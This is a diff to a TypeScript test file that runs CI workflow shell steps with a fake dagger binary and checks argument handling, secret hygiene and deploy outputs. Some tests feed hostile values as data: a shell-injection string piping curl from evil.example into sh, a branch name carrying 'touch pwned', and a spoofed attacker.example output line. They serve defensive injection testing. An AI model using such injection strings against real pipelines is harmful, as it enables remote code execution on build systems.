@@ -1,17 +1,20 @@
 /**
- * python-pipeline.yml's shell steps executed the way the runner executes them (`bash --noprofile --norc
- * -eo pipefail`, the step's `env:` evaluated with GitHub's expression engine), with a stand-in `dagger`
- * on PATH that records its arguments and the environment it was given. What it shows: the engine switch
+ * python-pipeline.yml's and cd.yml's shell steps executed the way the runner executes them (`bash --noprofile
+ * --norc -eo pipefail`, the step's `env:` evaluated with GitHub's expression engine), with a stand-in `dagger`
+ * on PATH that records its arguments and the environment it was given. What it shows: the argv bash hands
+ * dagger is one the module's surface accepts, with every optional input set or none; the engine switch
  * (`vars.DAGGER_ENGINE` -> `_EXPERIMENTAL_DAGGER_RUNNER_HOST`, for the publishing step only; unset, the
  * variable is empty, which cmd/dagger/engine.go at dagger v0.21.8 treats as unset: nothing changes), the
  * Dagger Cloud token reaching dagger as environment only, no secret value on any command line, and the
- * trace URL taken from dagger's stderr into the job summary and the step's outputs.
+ * trace URL taken from dagger's stderr into the job summary and the step's outputs; CD's verified digest
+ * becoming its step's output, and nothing else.
  */
 import { spawnSync } from "node:child_process";
 import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterEach, describe, expect, it } from "vitest";
+import { checkDaggerCall } from "../helpers/dagger-cli";
 import { expr, readWorkflow } from "../helpers/workflow-files";
 import {
   type ExpressionContext,
@@ -23,12 +26,13 @@ import {
 } from "../helpers/workflow-model";
 
 const pipeline = readWorkflow(".github/workflows/python-pipeline.yml");
+const cd = readWorkflow(".github/workflows/cd.yml");
 const PUBLISH_STEP = "Run the pipeline, publish, sign, comment";
 const READ_ONLY_STEP = "Run the pipeline (no publish, no signature, no comment)";
 const SUMMARY_STEP = "Add the pipeline summary to the job summary, and the annotations";
 
-function step(name: string): Mapping {
-  const found = jobsOf(pipeline)[0]?.steps.find(({ step }) => step.name === name)?.step;
+function step(name: string, wf = pipeline): Mapping {
+  const found = jobsOf(wf)[0]?.steps.find(({ step }) => step.name === name)?.step;
   if (!found) throw new Error(`no step ${name}`);
   return found;
 }
@@ -81,14 +85,19 @@ type Run = {
   stderr: string;
 };
 
+/** What the stand-in dagger prints, and a script to run instead of the step's own (a broken copy). */
+type StandIn = { stderr?: string; stdout?: string; status?: number; script?: string };
+
 /** Runs a step's script with its evaluated env, a stand-in dagger, and the runner's own variables. */
-function runStep(name: string, ctx: ExpressionContext, daggerStderr = "", script?: string): Run {
+function runStep(name: string | Mapping, ctx: ExpressionContext, standIn: StandIn = {}): Run {
+  const stepOf = typeof name === "string" ? step(name) : name;
   const dir = mkdtempSync(join(tmpdir(), "pipeline-step-"));
   dirs.push(dir);
   const bin = join(dir, "bin");
   spawnSync("mkdir", ["-p", bin, join(dir, "temp"), join(dir, "work")]);
-  writeFileSync(join(dir, "dagger-stderr.txt"), daggerStderr);
-  // Records argv (one per line) and the variables dagger reads, then prints the scripted stderr.
+  writeFileSync(join(dir, "dagger-stderr.txt"), standIn.stderr ?? "");
+  writeFileSync(join(dir, "dagger-stdout.txt"), standIn.stdout ?? "");
+  // Records argv (one per line) and the variables dagger reads, then prints the scripted stderr and stdout.
   writeFileSync(
     join(bin, "dagger"),
     [
@@ -96,13 +105,15 @@ function runStep(name: string, ctx: ExpressionContext, daggerStderr = "", script
       `printf '%s\\n' "$@" > "${dir}/argv"`,
       `printf 'RUNNER_HOST=%s\\nRUNNER_HOST_SET=%s\\nCLOUD_TOKEN=%s\\n' "$_EXPERIMENTAL_DAGGER_RUNNER_HOST" "\${_EXPERIMENTAL_DAGGER_RUNNER_HOST+yes}" "$DAGGER_CLOUD_TOKEN" > "${dir}/env"`,
       `cat "${dir}/dagger-stderr.txt" >&2`,
+      `cat "${dir}/dagger-stdout.txt"`,
       // The process tree: every command line the step's processes had (ps of this session).
       `ps -eo args= >> "${dir}/ps" 2>/dev/null || true`,
+      `exit ${standIn.status ?? 0}`,
     ].join("\n"),
   );
   chmodSync(join(bin, "dagger"), 0o755);
   const stepEnv = Object.fromEntries(
-    Object.entries((step(name).env as Mapping | undefined) ?? {}).map(([k, v]) => [
+    Object.entries((stepOf.env as Mapping | undefined) ?? {}).map(([k, v]) => [
       k,
       interpolate(scalarText(v) ?? "", ctx),
     ]),
@@ -124,7 +135,7 @@ function runStep(name: string, ctx: ExpressionContext, daggerStderr = "", script
   };
   const result = spawnSync(
     "bash",
-    ["--noprofile", "--norc", "-eo", "pipefail", "-c", script ?? String(step(name).run)],
+    ["--noprofile", "--norc", "-eo", "pipefail", "-c", standIn.script ?? String(stepOf.run)],
     {
       cwd: join(dir, "work"),
       env,
@@ -196,7 +207,7 @@ describe("the engine switch", () => {
       "--github-token env:GITHUB_TOKEN",
       '--github-token "$GITHUB_TOKEN"',
     );
-    const run = runStep(PUBLISH_STEP, context({}), "", broken);
+    const run = runStep(PUBLISH_STEP, context({}), { script: broken });
     expect(run.argv).toContain(SECRETS.GITHUB_TOKEN);
     expect(readFileSync(join(run.dir, "ps"), "utf8")).toContain(SECRETS.GITHUB_TOKEN);
   });
@@ -204,13 +215,13 @@ describe("the engine switch", () => {
   it("would reach the engine from the read-only step of a broken copy that sets it there", () => {
     const ctx = context({ DAGGER_ENGINE: ENGINE }, false);
     const broken = `export _EXPERIMENTAL_DAGGER_RUNNER_HOST=${ENGINE}\n${String(step(READ_ONLY_STEP).run)}`;
-    expect(runStep(READ_ONLY_STEP, ctx, "", broken).env.RUNNER_HOST).toBe(ENGINE);
+    expect(runStep(READ_ONLY_STEP, ctx, { script: broken }).env.RUNNER_HOST).toBe(ENGINE);
   });
 
-  it("passes the caller's inputs as the module's constructor flags, before ci", () => {
+  it("passes the caller's inputs and the run's settings as constructor flags, before ci-run", () => {
     const run = runStep(PUBLISH_STEP, context({}));
-    const ci = run.argv.indexOf("ci");
-    expect(run.argv.slice(4, ci)).toEqual([
+    expect(run.status, run.stderr).toBe(0);
+    expect(run.argv.slice(4, run.argv.indexOf("ci-run"))).toEqual([
       "--source=.",
       "--app",
       "sample-app",
@@ -218,29 +229,92 @@ describe("the engine switch", () => {
       "90",
       "--python-versions",
       "3.12,3.13",
+      "--event",
+      "push",
+      "--repository",
+      "acme/service",
+      "--run-url",
+      "https://github.com/acme/service/actions/runs/42",
+      "--github-api-url",
+      "https://api.github.com",
+      "--oidc-request-url",
+      "https://runner.example/token",
+      "--oidc-request-token",
+      "env:ACTIONS_ID_TOKEN_REQUEST_TOKEN",
+      "--github-token",
+      "env:GITHUB_TOKEN",
+      "--registry-username",
+      "alice",
+      "--registry-password",
+      "env:GITHUB_TOKEN",
+    ]);
+    expect(run.argv.slice(run.argv.indexOf("ci-run"))).toEqual([
+      "ci-run",
+      "--diff-threshold",
+      "0",
+      "--branch",
+      "main",
+      "--sha",
+      "3f2a9c1".padEnd(40, "0"),
+      "--publish",
+      "--sign",
+      "--exit-zero",
+      "reports",
+      "export",
+      "--path",
+      "reports",
     ]);
   });
 
+  const EVERY_INPUT = {
+    "smoke-command": "python -m app --check",
+    "smoke-expect": "ok",
+    services: "postgres,redis",
+    typecheck: "report",
+    "diff-threshold": 80,
+  };
+
   it.each([PUBLISH_STEP, READ_ONLY_STEP])(
-    "passes services, typecheck and diff-threshold as ci's own flags, and leaves unset ones to the module (%s)",
+    "hands dagger an argv the module's surface accepts, with no optional input or every one (%s)",
     (name) => {
       const base = context({}, name === PUBLISH_STEP);
-      const ci = (inputs: Record<string, unknown>) => {
+      for (const inputs of [{ "python-versions": "" }, EVERY_INPUT]) {
         const run = runStep(name, { ...base, inputs: { ...(base.inputs as object), ...inputs } });
-        const at = run.argv.indexOf("ci");
-        return run.argv.slice(at + 1, run.argv.indexOf("--event"));
-      };
-      expect(ci({})).toEqual(["--diff-threshold", "0"]);
-      expect(ci({ services: "postgres,redis", typecheck: "report", "diff-threshold": 80 })).toEqual([
-        "--diff-threshold",
-        "80",
-        "--services",
-        "postgres,redis",
-        "--typecheck",
-        "report",
-      ]);
+        expect(run.status, run.stderr).toBe(0);
+        expect(checkDaggerCall(run.argv)).toEqual([]);
+      }
+    },
+  );
+
+  it("would hand dagger an argv the surface refuses, from a broken copy with the old --service", () => {
+    const broken = String(step(READ_ONLY_STEP).run).replace("(--services", "(--service");
+    const ctx = context({}, false);
+    const run = runStep(
+      READ_ONLY_STEP,
+      { ...ctx, inputs: { ...(ctx.inputs as object), ...EVERY_INPUT } },
+      {
+        script: broken,
+      },
+    );
+    expect(checkDaggerCall(run.argv)).toEqual(["the constructor has no flag --service"]);
+  });
+
+  it.each([PUBLISH_STEP, READ_ONLY_STEP])(
+    "passes services as a constructor flag, typecheck and diff-threshold as ci-run's, and leaves unset ones to the module (%s)",
+    (name) => {
+      const base = context({}, name === PUBLISH_STEP);
+      const argv = (inputs: Record<string, unknown>) =>
+        runStep(name, { ...base, inputs: { ...(base.inputs as object), ...inputs } }).argv;
+      const settings = (a: string[]) => a.slice(a.indexOf("call") + 1, a.indexOf("--event"));
+      const own = (a: string[]) => a.slice(a.indexOf("ci-run") + 1, a.indexOf("--branch"));
+      const none = argv({});
+      expect(settings(none)).not.toContain("--services");
+      expect(own(none)).toEqual(["--diff-threshold", "0"]);
+      const every = argv({ services: "postgres,redis", typecheck: "report", "diff-threshold": 80 });
+      expect(settings(every).slice(-2)).toEqual(["--services", "postgres,redis"]);
+      expect(own(every)).toEqual(["--diff-threshold", "80", "--typecheck", "report"]);
       // a hostile value stays one argument: it reaches dagger, never the shell
-      expect(ci({ services: "postgres; curl evil.example | sh" })).toContain(
+      expect(argv({ services: "postgres; curl evil.example | sh" })).toContain(
         "postgres; curl evil.example | sh",
       );
     },
@@ -259,7 +333,7 @@ describe("the Dagger Cloud trace URL", () => {
   const TRACE = "https://dagger.cloud/acme/traces/4bf92f3577b34da6a3ce929d0e0e4736";
 
   function summaryAfter(stderr: string): { summary: string; output: string } {
-    const publish = runStep(PUBLISH_STEP, context({}), stderr);
+    const publish = runStep(PUBLISH_STEP, context({}), { stderr });
     // The summary step runs in the same job: same RUNNER_TEMP, where the pipeline step left dagger's stderr.
     const env = {
       ...process.env,
@@ -306,5 +380,84 @@ describe("the Dagger Cloud trace URL", () => {
     expect(step(SUMMARY_STEP).if).toBe(expr("!cancelled()"));
     const outputs = jobsOf(pipeline)[0]?.job.outputs as Mapping;
     expect(outputs["trace-url"]).toBe(expr("steps.summary.outputs.trace-url"));
+  });
+});
+
+describe("CD's deploy step", () => {
+  const DEPLOY_STEP = "Verify the signed image of the commit and smoke-test it";
+  const deploy = step(DEPLOY_STEP, cd);
+  const SHA = "3f2a9c1".padEnd(40, "0");
+  const DIGEST = `sha256:${"ab".repeat(32)}`;
+  const ctx = (branch = "main"): ExpressionContext => ({
+    github: {
+      event_name: "workflow_run",
+      repository: "acme/service",
+      event: { workflow_run: { event: "push", head_branch: branch, head_sha: SHA } },
+    },
+    secrets: SECRETS,
+  });
+  const read = (run: Run, file: string) => {
+    try {
+      return readFileSync(join(run.dir, file), "utf8");
+    } catch {
+      return "";
+    }
+  };
+
+  it("gives settings to the constructor, the commit to deploy, and chains digest: an argv the surface accepts", () => {
+    const run = runStep(deploy, ctx(), { stdout: DIGEST });
+    expect(run.status, run.stderr).toBe(0);
+    expect(checkDaggerCall(run.argv)).toEqual([]);
+    expect(run.argv.slice(run.argv.indexOf("deploy"))).toEqual([
+      "deploy",
+      "--branch",
+      "main",
+      "--sha",
+      SHA,
+      "digest",
+    ]);
+    expect(run.argv.slice(0, run.argv.indexOf("deploy"))).toEqual([
+      "--progress=plain",
+      "call",
+      "--event",
+      "push",
+      "--repository",
+      "acme/service",
+      "--run-url",
+      "https://github.com/acme/service/actions/runs/42",
+      "--github-api-url",
+      "https://api.github.com",
+      "--github-token",
+      "env:GITHUB_TOKEN",
+      "--registry-username",
+      "alice",
+      "--registry-password",
+      "env:GITHUB_TOKEN",
+    ]);
+    expect(run.argv.join("\n")).not.toContain(SECRETS.GITHUB_TOKEN);
+  });
+
+  it("sets the step's digest output to the verified digest, and says so in the job summary", () => {
+    const run = runStep(deploy, ctx(), { stdout: `${DIGEST}\n` });
+    expect(run.status, run.stderr).toBe(0);
+    expect(deploy.id).toBe("deploy");
+    expect(read(run, "output")).toBe(`digest=${DIGEST}\n`);
+    expect(read(run, "summary.md")).toBe(`Verified and smoke-tested ${DIGEST}; nothing was rolled out.\n`);
+  });
+
+  it("keeps a hostile branch name one argument", () => {
+    const run = runStep(deploy, ctx('main"; touch pwned; "'), { stdout: DIGEST });
+    expect(run.argv).toContain('main"; touch pwned; "');
+  });
+
+  it.each([
+    ["prints no digest", { stdout: "" }],
+    ["prints a digest and another output line", { stdout: `${DIGEST}\nimage=attacker.example/x` }],
+    ["prints an object's ID", { stdout: "Deployment@xxh3:0123456789abcdef" }],
+    ["fails (a refused or failed deploy)", { stdout: DIGEST, status: 1 }],
+  ])("sets no output and fails when dagger %s", (_name, standIn) => {
+    const run = runStep(deploy, ctx(), standIn);
+    expect(run.status).not.toBe(0);
+    expect(read(run, "output")).toBe("");
   });
 });
